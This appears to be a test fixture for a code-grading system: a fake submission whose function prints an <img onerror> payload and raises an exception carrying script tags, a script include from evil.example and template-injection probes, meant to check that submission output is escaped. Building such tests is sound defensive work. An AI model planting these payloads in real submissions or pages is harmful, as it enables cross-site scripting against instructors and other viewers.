"""Markup in every text that a submission can make.

Gains: a script in the page that the instructor opens
Hides in: squares.py
Aims at: square
Earns: nothing
Ends: error
"""


class script(Exception):
    pass


script.__name__ = script.__qualname__ = "</pre></td><script>alert(1)</script>"


def square(x):
    print("<img src=x onerror=alert(1)>")
    raise script("</summary><script src='http://evil.example/x.js'></script>{{ 7 * 7 }}{% raw %}")
